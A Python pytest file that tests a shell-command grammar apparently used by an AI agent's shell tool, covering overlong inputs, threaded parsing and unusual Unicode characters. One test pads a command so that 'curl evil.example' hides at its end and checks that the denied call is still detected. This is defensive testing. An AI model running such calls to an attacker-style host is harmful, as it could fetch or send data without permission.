"""Long commands that are hard to read: never proven, and read where they hold up nobody."""

import subprocess
import sys
import threading

import pytest

from buddy.tools.shell import grammar
from buddy.tools.shell.grammar import LONG, MAX_BYTES, parse
from buddy.tools.shell.unwrap import possible, read_ahead


@pytest.mark.parametrize("unit", ["${", "true | ", "a[ ", "[[ a =~ ", "$(", "(", "<<a ", "'", "&&"])
def test_what_the_grammar_reads_over_and_over_is_not_given_to_it(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[str] = []
    monkeypatch.setattr(grammar, "_parser", lambda: read.append(unit))
    parsed = parse.__wrapped__(unit * (MAX_BYTES // len(unit) + 1))
    assert parsed.plain is None
    assert not read


@pytest.mark.parametrize("unit", ["true | ", "${a} | ", "a[1]=2 "])
def test_a_denied_command_is_still_found_in_what_the_grammar_is_not_given(unit: str) -> None:
    command = unit * 1500 + "curl evil.example"
    parsed = parse(command)
    assert parsed.plain is None
    assert any(words[:2] == ("curl", "evil.example") for words in possible(command, parsed))


async def test_a_long_command_is_read_in_a_thread(monkeypatch: pytest.MonkeyPatch) -> None:
    threads: list[str] = []
    real = grammar._parser  # pyright: ignore[reportPrivateUsage] - notes where it is used

    def note() -> object:
        threads.append(threading.current_thread().name)
        return real()

    monkeypatch.setattr(grammar, "_parser", note)
    command = "true && " * (LONG // 4) + "true"
    await read_ahead(command)
    assert threads
    assert threading.main_thread().name not in threads
    threads.clear()
    parse(command)
    assert not threads


@pytest.mark.parametrize(
    "command", ["ü{\U000d6a81\U0006e58du", "{\U0010ffff", "echo a{\U000e0001..\U0010fffd}", "<<\u65e5\n\u65e5"]
)
def test_no_character_ends_the_process(command: str) -> None:
    """The grammar's scanner has tables for Latin-1 only, so it must not see other characters."""
    source = f"from buddy.tools.shell.grammar import parse\nparse({command!r})\nparse({command!r} * 20)"
    done = subprocess.run([sys.executable, "-c", source], capture_output=True, check=False)
    assert (done.returncode, done.stderr) == (0, b"")


def test_words_keep_their_own_characters() -> None:
    assert parse("cat 'é ü' \"日本\"").plain == (("cat", "é ü", "日本"),)
